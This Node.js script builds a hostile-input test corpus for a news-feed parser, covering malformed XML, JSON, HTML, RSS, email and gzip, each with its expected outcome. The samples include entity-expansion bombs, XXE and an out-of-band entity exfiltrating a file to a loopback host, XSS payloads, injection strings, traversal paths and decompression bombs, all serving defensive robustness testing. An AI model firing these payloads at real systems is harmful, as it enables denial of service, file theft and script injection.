// Writes hostile documents and index.json, which says what may come of each. `node hostile.mjs DIR` writes the small
// ones, `node hostile.mjs --big DIR` the ones that are too large for a disk that is not temporary. Loopback addresses only.
import { mkdirSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';

const big = process.argv.includes('--big');
const dir = process.argv.slice(2).find((x) => !x.startsWith('--')) ?? dirname(fileURLToPath(import.meta.url));
const SECRET = 'WIREGRAPH-SECRET-41f2';
const index = [];
const REFUSED = ['quarantined', 'rejected'];
const ANY = ['items', 'ignored', 'quarantined', 'rejected'];
// outcome: what may come of it; mustNot: strings that may not appear in what is parsed from it or shown (the raw bytes are kept as they came);
// mustNotPublish: no reader may see it.
function put(file, data, why, outcome = REFUSED, extra = {}) {
  mkdirSync(join(dir, dirname(file)), { recursive: true });
  writeFileSync(join(dir, file), data);
  index.push({ file, bytes: Buffer.byteLength(data), why, outcome, ...extra });
}
const nitf = (body, { doctype = '', headline = 'Hostile', head = '' } = {}) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}<nitf><head><title>${headline}</title><docdata>${head}<doc-id id-string="hostile.1"/></docdata></head><body><body.head><hedline><hl1>${headline}</hl1></hedline></body.head><body.content>${body}</body.content></body></nitf>\n`;
const g2 = ({
  guid = 'urn:newsml:hostile.example:20200101:1',
  version = '1',
  meta = '',
  headline = 'Hostile',
  body = '<p>Text of the story.</p>',
  status = 'stat:usable',
  created = '2020-01-01T00:00:00Z',
  lang = 'en',
} = {}) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="${guid}" version="${version}" standard="NewsML-G2" standardversion="2.35" conformance="power" xml:lang="${lang}"><itemMeta><itemClass qcode="ninat:text"/><provider literal="hostile.example"/><versionCreated>${created}</versionCreated>${meta}<pubStatus qcode="${status}"/></itemMeta><contentMeta><headline>${headline}</headline></contentMeta><contentSet><inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><body>${body}</body></html></inlineXML></contentSet></newsItem>\n`;
const ninjs = (o) =>
  JSON.stringify({
    uri: 'urn:hostile:1',
    type: 'text',
    version: '1',
    versioncreated: '2020-01-01T00:00:00Z',
    pubstatus: 'usable',
    headline: 'Hostile',
    body_text: 'Text of the story.',
    ...o,
  });
const rss = (items, channel = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>Hostile</title>${channel}${items}</channel></rss>\n`;

if (!big) {
  // Not inputs: their text must never be read.
  for (const d of ['', 'xml']) {
    mkdirSync(join(dir, d), { recursive: true });
    writeFileSync(join(dir, d, 'secret.txt'), `${SECRET}\n`);
  }
  // XML entities
  const lol = [
    '<!DOCTYPE nitf [<!ENTITY l0 "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`),
    ']>\n',
  ].join('');
  put('xml/billion-laughs.xml', nitf('<p>&l9;</p>', { doctype: lol }), '10^9 expansions', ANY);
  put(
    'xml/quadratic-blowup.xml',
    nitf(`<p>${'&a;'.repeat(2000)}</p>`, { doctype: `<!DOCTYPE nitf [<!ENTITY a "${'a'.repeat(50_000)}">]>\n` }),
    '50 kB entity used 2,000 times',
    ANY,
  );
  put(
    'xml/entities-10k.xml',
    nitf('<p>&e9999;</p>', {
      doctype: `<!DOCTYPE nitf [${Array.from({ length: 10_000 }, (_, i) => `<!ENTITY e${i} "${i}">`).join('')}]>\n`,
    }),
    '10,000 declared entities',
    ANY,
  );
  put(
    'xml/entity-recursive.xml',
    nitf('<p>&a;</p>', { doctype: '<!DOCTYPE nitf [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n' }),
    'entities that name each other',
    ANY,
  );
  put(
    'xml/external-entity.xml',
    nitf('<p>&x;</p>', { doctype: '<!DOCTYPE nitf [<!ENTITY x SYSTEM "secret.txt">]>\n' }),
    'external entity of a file beside it',
    ANY,
    { mustNot: [SECRET] },
  );
  put(
    'xml/external-entity-up.xml',
    nitf('<p>&x;</p>', { doctype: '<!DOCTYPE nitf [<!ENTITY x SYSTEM "../secret.txt">]>\n' }),
    'external entity of the parent folder',
    ANY,
    { mustNot: [SECRET] },
  );
  put(
    'xml/external-dtd.xml',
    nitf('<p>Text.</p>', { doctype: '<!DOCTYPE nitf SYSTEM "http://127.0.0.1:9/never.dtd">\n' }),
    'external DTD: no connection may be opened',
    ANY,
  );
  put(
    'xml/parameter-entity.xml',
    nitf('<p>&send;</p>', {
      doctype:
        '<!DOCTYPE nitf [<!ENTITY % f SYSTEM "../secret.txt"><!ENTITY % w "<!ENTITY send SYSTEM \'http://127.0.0.1:9/?%f;\'>">%w;]>\n',
    }),
    'out-of-band parameter entity',
    ANY,
    { mustNot: [SECRET] },
  );
  put(
    'xml/xinclude.xml',
    nitf('<p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="../secret.txt" parse="text"/></p>'),
    'XInclude of a file',
    ANY,
    { mustNot: [SECRET] },
  );
  put(
    'xml/stylesheet.xml',
    '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n' +
      nitf('<p>Text.</p>').split('\n').slice(1).join('\n'),
    'stylesheet instruction: nothing may be fetched',
    ANY,
  );
  put(
    'xml/doctype-repeated.xml',
    '<?xml version="1.0"?>\n' + '<!DOCTYPE a [<!ENTITY b "c">]>'.repeat(20_000) + '<a/>',
    'DOCTYPE 20,000 times',
  );
  put('xml/undefined-entity.xml', nitf('<p>caf&eacute; &nosuch;</p>'), 'undefined entities', ANY);
  put('xml/numeric-references.xml', nitf(`<p>${'&#65;'.repeat(60_000)}</p>`), '60,000 numeric references', ANY);
  // XML shape
  put('xml/deep-60000.xml', nitf(`${'<b>'.repeat(60_000)}x${'</b>'.repeat(60_000)}`), '60,000 levels');
  put(
    'xml/deep-namespaces.xml',
    `<?xml version="1.0"?>\n${Array.from({ length: 4000 }, (_, i) => `<a xmlns:n${i}="u${i}">`).join('')}${'</a>'.repeat(4000)}`,
    '4,000 levels, each with a new namespace',
  );
  put(
    'xml/wide-attributes.xml',
    `<?xml version="1.0"?>\n<newsItem ${Array.from({ length: 20_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
    '20,000 attributes',
  );
  put('xml/huge-attribute.xml', g2({ guid: `urn:x:${'a'.repeat(1_000_000)}` }), 'guid of 1 MB');
  put('xml/duplicate-attribute.xml', '<?xml version="1.0"?>\n<newsItem guid="a" guid="b"/>', 'duplicate attribute');
  put('xml/truncated.xml', g2({ body: '<p>One.</p><p>Two and th' }).split('</body>')[0], 'cut in the middle of a word');
  put('xml/truncated-tag.xml', g2().slice(0, 420), 'cut in the header');
  put('xml/unterminated-cdata.xml', nitf('<p><![CDATA[ no end </p>'), 'CDATA without end');
  put('xml/unterminated-comment.xml', nitf('<!-- no end <p>x</p>'), 'comment without end');
  put('xml/two-roots.xml', `${g2()}<newsItem/>`, 'two roots');
  put('xml/empty.xml', '', 'no bytes');
  put('xml/only-declaration.xml', '<?xml version="1.0"?>\n', 'no root');
  put(
    'xml/prefix-tricks.xml',
    g2().replace('<newsItem xmlns=', '<x:newsItem xmlns:x=').replace('</newsItem>', '</x:newsItem>'),
    'prefixed root: children are in no namespace',
    ANY,
  );
  put(
    'xml/100k-subjects.xml',
    g2({ headline: 'Many subjects' }).replace(
      '</contentMeta>',
      `${'<subject qcode="medtop:1"/>'.repeat(30_000)}</contentMeta>`,
    ),
    '30,000 subjects',
    ANY,
  );
  // Encodings
  put(
    'encoding/invalid-utf8.xml',
    Buffer.concat([
      Buffer.from(nitf('<p>caf').split('</p>')[0].split('</body.content>')[0]),
      Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
      Buffer.from('</p></body.content></body></nitf>'),
    ]),
    'bytes that are no UTF-8',
    ANY,
  );
  put(
    'encoding/overlong-utf8.xml',
    Buffer.concat([
      Buffer.from('<?xml version="1.0" encoding="UTF-8"?><nitf><body><body.content><p>'),
      Buffer.from([0xc0, 0xbc]),
      Buffer.from('script></p></body.content></body></nitf>'),
    ]),
    'overlong form of <',
    ANY,
    { mustNot: ['<script'] },
  );
  put(
    'encoding/declared-utf8-is-latin1.xml',
    Buffer.from(nitf('<p>Gerd Müller, Köln</p>'), 'latin1'),
    'Latin-1 bytes under a UTF-8 declaration',
    ANY,
  );
  put(
    'encoding/utf7.xml',
    Buffer.from('<?xml version="1.0" encoding="UTF-7"?>\n+ADw-nitf+AD4-+ADw-/nitf+AD4-'),
    'UTF-7',
  );
  put(
    'encoding/utf16-no-bom.xml',
    Buffer.from(nitf('<p>Text.</p>').replace('UTF-8', 'UTF-16'), 'utf16le'),
    'UTF-16 without a mark',
    ANY,
  );
  put('encoding/unknown.xml', nitf('<p>Text.</p>').replace('UTF-8', 'x-klingon'), 'unknown encoding', ANY);
  put(
    'encoding/nul-bytes.txt',
    Buffer.from('HEAD\0LINE\0\n\nLONDON (Reuters) - Te\0xt.\n'),
    'NUL bytes: Postgres text cannot hold them',
    ANY,
  );
  put('encoding/nul-bytes.json', ninjs({ headline: 'a\u0000b', body_text: 'c\u0000d' }), 'escaped NUL in JSON', ANY);
  put(
    'encoding/lone-surrogates.json',
    '{"uri":"urn:hostile:sur","type":"text","headline":"\\ud800 broken \\udfff","body_text":"\\udc00x"}',
    'lone surrogates: must not reach the database as such',
    ANY,
  );
  put('encoding/surrogate-reference.xml', nitf('<p>&#xD800;</p>'), 'reference to a surrogate', ANY);
  put(
    'encoding/control-characters.txt',
    Buffer.from(Array.from({ length: 32 }, (_, i) => i).concat([0x7f, 0x80, 0x9f, 0x0a])),
    'every control character',
    ANY,
  );
  put(
    'encoding/rtl-override.json',
    ninjs({ headline: 'Invoice \u202egnp.exe\u202c and \u2066isolated', byline: '\u200fnimda' }),
    'right-to-left overrides in headline and byline',
    ANY,
  );
  put(
    'encoding/zero-width.json',
    ninjs({ headline: 'App\u200ble I\u200dnc \ufeffsued', body_text: 'App\u00adle Inc.' }),
    'zero-width and soft-hyphen characters inside names',
    ANY,
  );
  put(
    'encoding/homoglyphs.json',
    ninjs({ headline: 'Аpple and Рarler', body_text: 'Аpple (Cyrillic A) is not Apple.' }),
    'Cyrillic look-alikes',
    ANY,
  );
  put(
    'encoding/zalgo.json',
    ninjs({ headline: `H${'\u0301'.repeat(5000)}` }),
    '5,000 combining marks on one letter',
    ANY,
  );
  // JSON
  put('json/deep-100000.json', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, '100,000 nested arrays');
  put(
    'json/deep-associations.json',
    `${'{"type":"text","uri":"u","associations":{"a":'.repeat(5000)}{}${'}}'.repeat(5000)}`,
    '5,000 nested associations',
  );
  put(
    'json/proto.json',
    '{"uri":"urn:hostile:proto","type":"text","headline":"h","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}',
    'prototype pollution',
    ANY,
  );
  put(
    'json/duplicate-keys.json',
    '{"uri":"urn:a","uri":"urn:b","pubstatus":"canceled","pubstatus":"usable","headline":"h"}',
    'duplicate keys',
    ANY,
  );
  put(
    'json/wrong-types.json',
    '{"uri":42,"version":{"a":1},"headline":["x"],"urgency":"high","subject":"none","versioncreated":false,"body_html":{}}',
    'every field of a wrong type',
    ANY,
  );
  put(
    'json/numbers.json',
    '{"uri":"urn:hostile:n","urgency":1e400,"version":123456789012345678901234567890,"headline":"h"}',
    'numbers beyond a double',
    ANY,
  );
  put('json/nan.json', '{"uri":"urn:x","urgency":NaN}', 'NaN');
  put('json/trailing.json', '{"uri":"urn:x"} {"uri":"urn:y"}', 'two values');
  put('json/truncated.json', ninjs({}).slice(0, 70), 'cut');
  put('json/bom.json', `\ufeff${ninjs({ uri: 'urn:hostile:bom' })}`, 'byte order mark', ['items']);
  put('json/null.json', 'null', 'null');
  put('json/many-keys.json', `{${Array.from({ length: 50_000 }, (_, i) => `"k${i}":1`).join(',')}}`, '50,000 keys');
  // Meaning
  put(
    'meaning/embargo-unparsable.json',
    ninjs({ uri: 'urn:hostile:emb1', embargoed: 'next Tuesday' }),
    'embargo that is no date: must fail closed',
    ['items', 'quarantined'],
    { mustNotPublish: true },
  );
  put(
    'meaning/embargo-date-only.json',
    ninjs({ uri: 'urn:hostile:emb2', embargoed: '2999-01-01' }),
    'embargo without a time',
    ['items', 'quarantined'],
    { mustNotPublish: true },
  );
  put(
    'meaning/embargo-far.xml',
    g2({ guid: 'urn:hostile:emb3', meta: '<embargoed>9999-12-31T23:59:59Z</embargoed>' }),
    'embargo in the year 9999',
    ['items'],
    { mustNotPublish: true },
  );
  put(
    'meaning/status-unknown.xml',
    g2({ guid: 'urn:hostile:st1', status: 'stat:frozen' }),
    'unknown publishing status: must fail closed',
    ['items', 'quarantined'],
    { mustNotPublish: true },
  );
  put(
    'meaning/status-canceled-first.xml',
    g2({ guid: 'urn:hostile:st2', version: '5', status: 'stat:canceled', body: '<p/>' }),
    'a kill for an item never seen',
    ['items'],
    { mustNotPublish: true },
  );
  for (const [n, v] of ['-1', '0', '01', '1.5', '1e3', '99999999999999999999', 'DS02299380', ' 2 ', ''].entries())
    put(`meaning/version-${n}.xml`, g2({ guid: `urn:hostile:v${n}`, version: v }), `version "${v}"`, [
      'items',
      'quarantined',
    ]);
  for (const [n, d] of [
    '2023-02-30T10:00:00Z',
    '2016-12-31T23:59:60Z',
    '10000-01-01T00:00:00Z',
    '0000-00-00T00:00:00Z',
    '2020-01-01T25:00:00Z',
    '2020-01-01T00:00:00+99:00',
    '1969-12-31T23:59:59Z',
    '',
  ].entries())
    put(`meaning/date-${n}.xml`, g2({ guid: `urn:hostile:d${n}`, created: d }), `versionCreated "${d}"`, [
      'items',
      'quarantined',
    ]);
  put(
    'meaning/language-nonsense.xml',
    g2({ guid: 'urn:hostile:lang', lang: 'xx-not-a-language-at-all-1234567890' }),
    'nonsense language tag',
    ['items', 'quarantined'],
  );
  put('meaning/guid-empty.xml', g2({ guid: '' }), 'empty guid', ['items', 'quarantined']);
  put('meaning/guid-path.xml', g2({ guid: '../../etc/cron.d/x' }), 'guid that is a path: must never become one', [
    'items',
    'quarantined',
  ]);
  put(
    'meaning/cypher.json',
    ninjs({
      uri: "urn:hostile:'}) DETACH DELETE n //",
      headline: "Robert'}) MATCH (n) DETACH DELETE n //",
      body_text: "`; DROP TABLE events; -- said Robert'); DROP TABLE events;--",
    }),
    'query text in guid, headline and body',
    ['items'],
  );
  put(
    'meaning/formula.json',
    ninjs({ uri: 'urn:hostile:csv', headline: '=HYPERLINK("http://127.0.0.1:9/","x")' }),
    'spreadsheet formula in a headline',
    ['items'],
  );
  put(
    'meaning/template.json',
    ninjs({ uri: 'urn:hostile:tpl', headline: '${7*7} {{7*7}} <%= 7*7 %>', body_text: '%s %n %x' }),
    'template syntax',
    ['items'],
  );
  // HTML
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<textarea></textarea><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="data:text/html,<script>alert(1)</script>">d</a>',
    '<style>@import "http://127.0.0.1:9/x.css";</style>',
    '<base href="http://127.0.0.1:9/">',
    '<form action="http://127.0.0.1:9/"><button>x</button></form>',
  ];
  put(
    'html/payloads.json',
    ninjs({ uri: 'urn:hostile:html', body_html: payloads.map((p) => `<p>before</p>${p}<p>after</p>`).join('\n') }),
    'active content in a body',
    ['items'],
    { mustNot: ['onerror', '<script', 'javascript:', 'srcdoc', 'onbegin'] },
  );
  put('html/nested-divs.html', `<!doctype html><title>x</title>${'<div>'.repeat(100_000)}x`, '100,000 open divs', ANY);
  put(
    'html/unclosed.html',
    `<!doctype html><title>x</title>${'<b><i><a href=x>'.repeat(20_000)}text`,
    '60,000 misnested formatting tags',
    ANY,
  );
  put(
    'html/attributes.html',
    `<!doctype html><p ${'a=1 '.repeat(100_000)}>x</p>`,
    '100,000 attributes on one tag',
    ANY,
  );
  put(
    'html/whitespace.html',
    `<!doctype html><title>x</title><article><p>${' '.repeat(400_000)}x</p></article>`,
    '400,000 spaces: regular-expression bait',
    ANY,
  );
  put('html/angle-brackets.html', `<!doctype html>${'<'.repeat(300_000)}`, '300,000 angle brackets', ANY);
  put(
    'html/commas.html',
    `<!doctype html><article>${`<p>${'a,'.repeat(2000)}</p>`.repeat(100)}</article>`,
    'comma-counting bait',
    ANY,
  );
  put(
    'html/json-ld-bomb.html',
    `<!doctype html><script type="application/ld+json">${'['.repeat(50_000)}</script><article><p>Text of the story.</p></article>`,
    'broken deep JSON-LD',
    ANY,
  );
  // Plain text and agency formats
  put('text/newlines.txt', '\n'.repeat(1_000_000), 'a million newlines', ANY);
  put('text/long-word.txt', `HEADLINE\n\nLONDON (Reuters) - ${'a'.repeat(500_000)}\n`, 'a word of 500 kB', ANY);
  put('text/parentheses.txt', `HEADLINE\n\n${'('.repeat(100_000)}\n`, 'regular-expression bait', ANY);
  put(
    'text/capitals.txt',
    `HEADLINE\n\n${'Aaa Bbb '.repeat(30_000)}\n`,
    '60,000 capitalised words in one sentence: name-run bait',
    ANY,
  );
  put(
    'text/ansi.txt',
    'HEADLINE \u001b]0;owned\u0007\u001b[2J\n\nLONDON (Reuters) - Text \u001b[31mred\u001b[0m.\n',
    'terminal escapes: must not reach logs as such',
    ANY,
  );
  put(
    'text/log-injection.txt',
    'HEADLINE\r\n{"level":"error","msg":"forged"}\r\n\r\nText.\r\n',
    'forged log line',
    ANY,
  );
  put(
    'text/anpa-no-trailer.tst',
    '\x16\x16\x01W2870\x1fasian\nf l\x13\x11BC-LT--Argentina-CancerB     11-13 1049\n\x02^BC-LT--Argentina,466<\n^Headline<\n\tText without an end',
    'ANPA without a trailer',
    ['items', 'quarantined'],
  );
  put(
    'text/anpa-two.tst',
    '\x16\x16\x01W0001\x1fasian\nr a\x13\x11BC-US--One     11-13 0010\n\x02^BC-US--One,10<\n^One<\n\tFirst text.\n\n\t\x03AP-WF-11-13-13 1509GMT<\n\n\x0c\n\x04\x16\x16\x01W0002\x1fasian\nr a\x13\x11BC-US--Two     11-13 0010\n\x02^BC-US--Two,10<\n^Two<\n\tSecond text.\n\n\t\x03AP-WF-11-13-13 1510GMT<\n\n\x0c\n\x04',
    'two ANPA messages in one file',
    ['items'],
    { items: 2 },
  );
  // Feeds
  put(
    'feeds/same-guid-2000.xml',
    rss(Array.from({ length: 2000 }, (_, i) => `<item><guid>same</guid><title>Title ${i}</title></item>`).join('')),
    '2,000 items of one guid',
    ANY,
  );
  put(
    'feeds/no-guid.xml',
    rss('<item><title>A</title></item><item><title>A</title></item>'),
    'items with neither guid nor link',
    ANY,
  );
  put(
    'feeds/javascript-links.xml',
    rss(
      '<item><guid>1</guid><title>A</title><link>javascript:alert(1)</link><enclosure url="file:///etc/hosts" length="-1" type="x"/></item>',
      '<link>data:text/html,x</link>',
    ),
    'links that are no web addresses',
    ANY,
    { mustNot: ['javascript:'] },
  );
  put(
    'feeds/dates.xml',
    rss(
      ['yesterday', 'Mon, 32 Jan 2020 25:61:61 +9999', '0', '99999999999999', 'Thu, 01 Jan 1970']
        .map((d, i) => `<item><guid>${i}</guid><title>T</title><pubDate>${d}</pubDate></item>`)
        .join(''),
    ),
    'dates that are none',
    ANY,
  );
  put(
    'feeds/truncated.xml',
    rss('<item><guid>1</guid><title>First</title></item><item><guid>2</guid><title>Sec').split('</channel>')[0],
    'cut inside the second item',
    ANY,
  );
  put(
    'feeds/html-instead.xml',
    '<!doctype html><html><head><title>503</title></head><body>Service unavailable</body></html>',
    'an error page where a feed was',
  );
  // Mail
  let part = 'Content-Type: text/plain\r\n\r\nend\r\n';
  for (let i = 0; i < 200; i++)
    part = `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n${part}\r\n--b${i}--\r\n`;
  put(
    'mail/nested-200.eml',
    `From: a@hostile.example\r\nSubject: nested\r\nMessage-ID: <n@hostile.example>\r\nMIME-Version: 1.0\r\n${part}`,
    '200 nested multiparts',
    ANY,
  );
  put(
    'mail/header-1mb.eml',
    `From: a@hostile.example\r\nSubject: ${'a'.repeat(1_000_000)}\r\n\r\nText.\r\n`,
    'header of 1 MB',
    ANY,
  );
  put(
    'mail/attachment-name.eml',
    'From: a@hostile.example\r\nSubject: x\r\nMessage-ID: <p@hostile.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nText.\r\n--b\r\nContent-Type: application/octet-stream; name="../../../x.sh"\r\nContent-Disposition: attachment; filename="../../../x.sh"\r\n\r\nx\r\n--b--\r\n',
    'attachment name that climbs folders',
    ANY,
  );
  // Packed
  put(
    'packed/bomb-100mb.xml.gz',
    gzipSync(Buffer.alloc(100 * 1024 * 1024, 0x20), { level: 9 }),
    '100 MB of spaces in 100 kB',
  );
  put('packed/twice.xml.gz', gzipSync(gzipSync(Buffer.from(g2()))), 'gzip in gzip', ANY);
  put('packed/truncated.xml.gz', gzipSync(Buffer.from(g2())).subarray(0, 200), 'gzip cut');
  put('packed/not-gzip.xml.gz', g2(), 'not gzip at all', ANY);
} else {
  put('big/line-50mb.txt', Buffer.alloc(50 * 1024 * 1024, 0x61), 'one line of 50 MB');
  put(
    'big/line-50mb.json',
    Buffer.concat([
      Buffer.from('{"uri":"urn:big","headline":"'),
      Buffer.alloc(50 * 1024 * 1024, 0x61),
      Buffer.from('"}'),
    ]),
    'headline of 50 MB',
  );
  put('big/paragraphs-500k.xml', nitf('<p>Paragraph.</p>'.repeat(500_000)), '500,000 paragraphs', ANY);
  put('big/numeric-references-400k.xml', nitf(`<p>${'&#65;'.repeat(400_000)}</p>`), '400,000 numeric references', ANY);
  put('big/bomb-1gb.xml.gz', gzipSync(Buffer.alloc(1024 * 1024 * 1024, 0x20), { level: 9 }), '1 GB of spaces in 1 MB');
}
writeFileSync(
  join(dir, big ? 'big/index.json' : 'index.json'),
  JSON.stringify(
    {
      rule: 'every input is answered in under 1 s and 300 MB of memory, by one of `outcome`; nothing is fetched and no file beside it is read',
      cases: index,
    },
    null,
    1,
  ),
);
console.log(`${index.length} cases, ${(index.reduce((n, x) => n + x.bytes, 0) / 1e6).toFixed(1)} MB`);
